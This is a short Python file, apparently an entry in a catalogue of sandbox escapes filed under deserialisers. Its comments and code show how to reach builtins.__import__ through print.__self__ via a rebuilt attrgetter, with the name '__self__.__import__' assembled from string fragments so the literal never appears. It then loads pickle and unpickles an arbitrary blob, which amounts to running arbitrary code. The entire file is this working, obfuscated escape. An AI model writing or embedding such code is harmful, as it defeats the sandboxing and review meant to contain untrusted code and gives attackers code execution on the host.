# family: deserialisers
# escape: the attrgetter class (type() of an attrgetter) reads a dotted name built at run time:
# print.__self__.__import__ is builtins.__import__, which loads pickle; pickle.loads runs any reduce payload.
import operator

def tool(blob: bytes, a: str = "self", b: str = "import"):
    importer = type(operator.attrgetter("real"))(".".join(["__" + a + "__", "__" + b + "__"]))(print)
    return importer("pickle").loads(blob)
